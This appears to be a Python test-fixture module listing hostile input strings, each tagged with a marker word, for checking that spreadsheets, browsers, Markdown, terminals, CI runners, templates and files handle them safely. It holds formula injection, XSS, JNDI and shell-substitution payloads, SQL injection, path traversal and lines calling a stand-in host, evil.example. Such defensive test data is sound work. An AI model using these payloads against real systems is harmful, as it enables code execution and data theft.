"""Cells nobody should type, each with a mark by which it is known again."""

MARK = "Ядрышко"

_AROUND = (
    # what a spreadsheet would calculate
    "=1+{}", "+{}", "-{}", "@{}", "\t={}", "\r={}", " ={}", "＝{}", "\u200b={}", "\ufeff@{}", "=cmd|'/C calc'!{}",
    '=HYPERLINK("https://evil.example";"{}")', "=IMPORTXML(CONCAT(A1;{}))", "'={}", '"={}',
    "{},=1+1", "{}; =1+1", "{}\t=1", "{}\n=1+1", "{},@SUM(A1)", "{};+cmd|'/C calc'!A0", '{},"=1', "{};\\=1",
    # what a browser would run
    "<script>alert('{}')</script>", "<img src=x onerror=alert(1)>{}", '"><svg onload=x>{}',
    "<!--{}", "--><b>{}", "<![CDATA[{}]]>", "]]>{}", "&lt;{}&amp;", "<a href='javascript:x'>{}</a>",
    "</title></style></textarea>{}", "<iframe src=//evil.example>{}", "{}<plaintext>",
    # what Markdown and rich would set
    "[{}](javascript:alert(1))", "![{}](https://evil.example/x.png)", "**{}** _b_ `c` | d |",
    "```\n# {}", "    {}", "[bold red]{}[/]", "[link=file:///etc/passwd]{}[/link]", "[/]{}",
    "<https://evil.example/{}>", "{}\n\n---\n\n# h", "1. {}\n2. b", "@{} #1 :smile:", "$\\{}$",
    # what a terminal would obey
    "\x1b[31m{}\x1b[0m", "\x1b]8;;https://evil.example\x07{}\x1b]8;;\x07", "\x9b2J{}", "{}\x07\x08",
    "\x1b]0;{}\x07", "\u202e{}\u202c", "\u2066{}\u2069", "\u200f{}", "{}\x7f", "\x85{}\u2028\u2029",
    # what a runner would do
    "::error file=a,line=1::{}", "\n::set-output name=x::{}", "%0A::add-mask::{}", "::stop-commands::{}",
    "##[error]{}", "\r\n::warning::{}", "a,b:c%{}",
    # what no XML, no file or no line holds
    "\x00{}", "\x01\x02{}\x0b\x0c", "\ufffe{}\uffff", "\ud800{}", "{}\udfff\ud800", "\ufeff{}", "\U000e0041{}",
    # what a template, a format or a shell would fill in
    "{{{{7*7}}}}{}", "{{value}}{}", "{{plan}}{}", "%s%n%({})s", "${{jndi:ldap://evil.example}}{}", "`id`{}",
    "'; DROP TABLE entry;--{}", "$(id){}", "_x0041_{}",
    # what a calendar or a CSV would part
    "{}\r\nEND:VEVENT\r\nEND:VCALENDAR", "{};b\\;c,\\n", '{}";"b"\r\n"c', "a\tb|{}",
    # where a file would be
    "../../{}", "..\\..\\{}", "file:///etc/{}", "C:\\{}", "/dev/{}", "javascript:{}", "data:text/html,{}",
)  # fmt: skip

CELLS = (
    *(around.format(MARK) for around in _AROUND),
    MARK + "\u0301" * 3000,
    "ﷺ" * 500 + MARK,
    MARK + "я" * 50_000,
    MARK + " слово" * 8_000,
    MARK + "(" * 2000 + ")" * 2000,
    MARK + "\n" * 3000 + "х",
)
